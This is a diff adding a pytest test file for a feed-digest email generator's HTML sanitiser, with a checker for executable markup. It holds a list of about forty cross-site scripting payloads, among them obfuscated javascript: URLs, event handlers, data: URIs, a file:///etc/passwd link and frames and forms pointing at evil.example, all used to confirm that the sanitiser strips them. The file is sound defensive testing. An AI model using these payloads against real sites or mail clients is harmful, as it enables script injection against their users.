@@ -1,0 +1,294 @@
+"""Feed HTML is hostile: what ``digest.sanitize`` lets through, and a checker for whole emails.
+
+``executable_problems`` is the one definition of "executable HTML" the hostile, fuzz and
+crash tests share: a tag that runs or loads something, an ``on*`` attribute, a URL that is
+not http(s)/mailto (or an in-page ``#fragment``), a script URL hidden in a style.
+"""
+
+from __future__ import annotations
+
+import re
+from datetime import UTC, datetime
+from zoneinfo import ZoneInfo
+
+import lxml.etree
+import lxml.html
+import pytest
+
+from digest.config import DEFAULT_SUBJECT
+from digest.models import Digest, DigestItem, FailedFeed, Image, Section
+from digest.render import environment, render_message
+from digest.sanitize import html_to_text, sanitize_html
+
+# Tags that run code, load a document, submit data or change how the page is read.
+EXECUTABLE_TAGS = frozenset(
+    {
+        "script",
+        "iframe",
+        "frame",
+        "frameset",
+        "object",
+        "embed",
+        "applet",
+        "param",
+        "form",
+        "input",
+        "button",
+        "textarea",
+        "select",
+        "svg",
+        "math",
+        "base",
+        "link",
+        "portal",
+        "template",
+        "noscript",
+    }
+)
+URL_ATTRIBUTES = frozenset(
+    {
+        "href",
+        "src",
+        "action",
+        "formaction",
+        "background",
+        "poster",
+        "srcset",
+        "data",
+        "codebase",
+        "cite",
+        "longdesc",
+        "lowsrc",
+        "dynsrc",
+        "usemap",
+        "xlink:href",
+        "ping",
+        "manifest",
+    }
+)
+SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
+_SCRIPT_IN_CSS = re.compile(
+    r"javascript:|vbscript:|data:|expression\s*\(|-moz-binding|behavior\s*:", re.I
+)
+
+
+def url_scheme(value: str) -> str:
+    """The scheme a browser would see: control characters and spaces are ignored."""
+    squeezed = re.sub(r"[\x00-\x20\x7f]", "", value)
+    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", squeezed)
+    return match.group(1).lower() if match else ""
+
+
+def executable_problems(markup: str, *, document: bool = True) -> list[str]:
+    """Everything in *markup* that could run, load or redirect; [] when it is inert.
+
+    *document* parses a whole HTML page (an email part); otherwise a fragment.
+    """
+    if not markup.strip():
+        return []
+    try:
+        root = (
+            lxml.html.document_fromstring(markup)
+            if document
+            else lxml.html.fragment_fromstring(markup, create_parent="div")
+        )
+    except (lxml.etree.ParserError, ValueError) as exc:
+        return [f"unparseable HTML: {exc}"]
+    problems: list[str] = []
+    for element in root.iter():
+        if not isinstance(element.tag, str):  # comments, processing instructions
+            continue
+        tag = element.tag.lower().rsplit("}", 1)[-1]
+        if tag in EXECUTABLE_TAGS:
+            problems.append(f"<{tag}>")
+        if tag == "meta" and (element.get("http-equiv") or "").lower() in ("refresh", "set-cookie"):
+            problems.append(f"<meta http-equiv={element.get('http-equiv')}>")
+        if tag == "style" and _SCRIPT_IN_CSS.search(element.text_content() or ""):
+            problems.append("script URL in <style>")
+        for name, value in element.attrib.items():
+            attribute = str(name).lower().rsplit("}", 1)[-1]
+            if attribute.startswith("on"):
+                problems.append(f"<{tag} {attribute}=...>")
+            elif attribute == "style" and _SCRIPT_IN_CSS.search(value):
+                problems.append(f"<{tag} style={value[:60]!r}>")
+            elif attribute in URL_ATTRIBUTES or attribute.endswith(":href"):
+                scheme = url_scheme(value)
+                fragment = attribute == "href" and value.strip().startswith("#")
+                if not fragment and scheme not in SAFE_SCHEMES:
+                    problems.append(f"<{tag} {attribute}={value[:60]!r}>")
+    return problems
+
+
+# --- the sanitiser on its own --------------------------------------------------------------
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
+    '<a href="javascript:alert(1)">j</a>',
+    '<a href="JaVaScRiPt:alert(1)">j</a>',
+    '<a href=" \tjavascript:alert(1)">j</a>',
+    '<a href="java&#x09;script:alert(1)">j</a>',
+    '<a href="&#106;&#97;vascript:alert(1)">j</a>',
+    '<a href="\x01javascript:alert(1)">j</a>',
+    '<a href="https:javascript:alert(1)">j</a>',
+    '<a href="vbscript:msgbox(1)">v</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
+    '<a href="file:///etc/passwd">f</a>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="https://evil.example/x.swf"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    '<applet code="X"></applet>',
+    '<form action="https://evil.example/"><input type="password"><button>go</button></form>',
+    "<svg onload=alert(1)><circle r=1 /></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "<style>@import 'https://evil.example/x.css'; p{background:url(javascript:x)}</style>",
+    '<p style="background:url(javascript:alert(1))">s</p>',
+    '<p style="width:expression(alert(1))">s</p>',
+    '<div onclick="alert(1)" onmouseover=alert(2)>p</div>',
+    "<details open ontoggle=alert(1)><summary>s</summary></details>",
+    '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
+    '<video poster="javascript:alert(1)"><source src="x"></video>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    '<a href="https://ok.example/" target="_blank" rel="opener">ok</a>',
+    '<div class="x&quot; onclick=alert(1)">c</div>',
+    "<template><script>alert(1)</script></template>",
+    '<isindex action="javascript:alert(1)" type=image>',
+    '<portal src="https://evil.example/"></portal>',
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext><script>alert(1)</script>",
+]
+
+
+@pytest.mark.parametrize("markup", HOSTILE)
+def test_nothing_executable_survives(markup: str) -> None:
+    cleaned = sanitize_html(f"<p>Before.</p>{markup}<p>After.</p>", "https://feed.example/a/")
+    assert executable_problems(cleaned, document=False) == [], cleaned
+    assert "Before." in cleaned
+
+
+def test_only_http_and_mailto_links_survive() -> None:
+    cleaned = sanitize_html(
+        '<a href="/rel">r</a><a href="//cdn.example/x">p</a><a href="mailto:ed@example.org">m</a>'
+        '<a href="ftp://x.example/">f</a><a href="tel:123">t</a><img src="pic.png">',
+        "https://feed.example/a/b.html",
+    )
+    hrefs = re.findall(r'(?:href|src)="([^"]*)"', cleaned)
+    assert hrefs == [
+        "https://feed.example/rel",
+        "https://cdn.example/x",
+        "mailto:ed@example.org",
+        "https://feed.example/a/pic.png",
+    ]
+
+
+def test_story_structure_is_kept_for_the_blurb_extractor() -> None:
+    markup = (
+        '<article><h2>Head</h2><p class="lead">Text <em>here</em>.</p>'
+        '<figure><img src="https://ok.example/p.jpg" alt="a"><figcaption>Cap</figcaption>'
+        "</figure><aside>Related</aside></article>"
+    )
+    cleaned = sanitize_html(markup, "https://ok.example/")
+    for kept in (
+        "<article>",
+        "<h2>",
+        '<p class="lead">',
+        "<em>",
+        "<figure>",
+        "<figcaption>",
+        "<aside>",
+    ):
+        assert kept in cleaned
+
+
+def test_script_text_is_dropped_not_unwrapped() -> None:
+    cleaned = sanitize_html("<p>Story.</p><script>var secret = 'x';</script><style>p{}</style>")
+    assert cleaned == "<p>Story.</p>"
+
+
+def test_html_title_becomes_text() -> None:
+    assert html_to_text("<b>Bold</b> &amp; <i>brave</i><script>alert(1)</script>") == (
+        "Bold & brave"
+    )
+
+
+# --- titles and links in a rendered email ----------------------------------------------------
+
+TITLE = '<img src=x onerror=alert(1)> & <script>alert("t")</script>'
+
+
+def _rendered(title: str, link: str = "https://news.example.org/1") -> tuple[str, str, str]:
+    story = DigestItem(
+        title=title,
+        link=link,
+        source='<b onmouseover="alert(1)">Feed</b>',
+        published=datetime(2026, 11, 20, 8, tzinfo=UTC),
+        blurb="A blurb with <iframe src=javascript:alert(1)> in it.",
+        item_ids=(1,),
+        feed_url="https://news.example.org/feed",
+        image=Image("https://news.example.org/p.jpg", 300, 200, alt='"><script>alert(1)</script>'),
+    )
+    digest = Digest(
+        title="Hostile",
+        created=datetime(2026, 11, 20, 9, tzinfo=UTC),
+        timezone="UTC",
+        sections=(Section("News", (story,)),),
+        failed_feeds=(FailedFeed("<svg onload=alert(1)>", "https://x.example/", "HTTP 500"),),
+    )
+    rendered = render_message(digest, environment(None, ZoneInfo("UTC")), DEFAULT_SUBJECT)
+    return rendered.subject, rendered.html, rendered.text
+
+
+def test_titles_are_escaped_as_text_in_html_and_text_parts() -> None:
+    subject, html, text = _rendered(TITLE)
+    assert executable_problems(html) == []
+    root = lxml.html.document_fromstring(html)
+    [anchor] = root.xpath('//h3[contains(@class, "story-title")]/a')
+    assert anchor.text_content() == TITLE  # shown as those characters
+    assert TITLE in text
+    assert TITLE in subject
+    assert "<iframe" not in html and "&lt;iframe" in html
+
+
+def test_executable_checker_catches_what_it_should() -> None:
+    """The checker the other tests rely on is itself tested on known-bad HTML."""
+    bad = [
+        "<script>x</script>",
+        '<a href="javascript:x">a</a>',
+        '<a href=" java\tscript:x">a</a>',
+        '<img src="data:image/png;base64,AAAA">',
+        '<p onclick="x">p</p>',
+        '<p style="background:url(javascript:x)">p</p>',
+        '<meta http-equiv="Refresh" content="0;url=https://x">',
+        '<base href="https://x/">',
+        "<svg></svg>",
+        '<form action="https://x/"></form>',
+        '<a href="vbscript:x">v</a>',
+    ]
+    for markup in bad:
+        assert executable_problems(f"<html><body>{markup}</body></html>"), markup
+    good = '<html><body><a href="#s">s</a><a href="mailto:a@b.example">m</a></body></html>'
+    assert executable_problems(good) == []
+
+
+def test_code_points_html_forbids_are_removed_from_markup_and_text() -> None:
+    """A NUL or an escape character in a feed must not reach lxml, the database or the email."""
+    from digest.sanitize import plain, text_to_html
+
+    markup = "<p>Bell\x07 NUL\x00 esc\x1b del\x7f c1\x85 &#1;&#x1b;ok\ufffe\U0010ffff</p>"
+    cleaned = sanitize_html(markup)
+    assert cleaned == "<p>Bell NUL esc del c1 ok</p>"
+    assert lxml.html.fragment_fromstring(cleaned).text_content() == "Bell NUL esc del c1 ok"
+    assert plain(" Control\x00chars\x07in\x1btitle\ud800 ") == "Controlcharsintitle"
+    assert html_to_text("<b>A\x00</b>&#7;B") == "AB"
+    assert text_to_html("x\x1by") == "<p>xy</p>"
+    assert plain("tabs\tand\nnewlines stay as spaces") == "tabs and newlines stay as spaces"
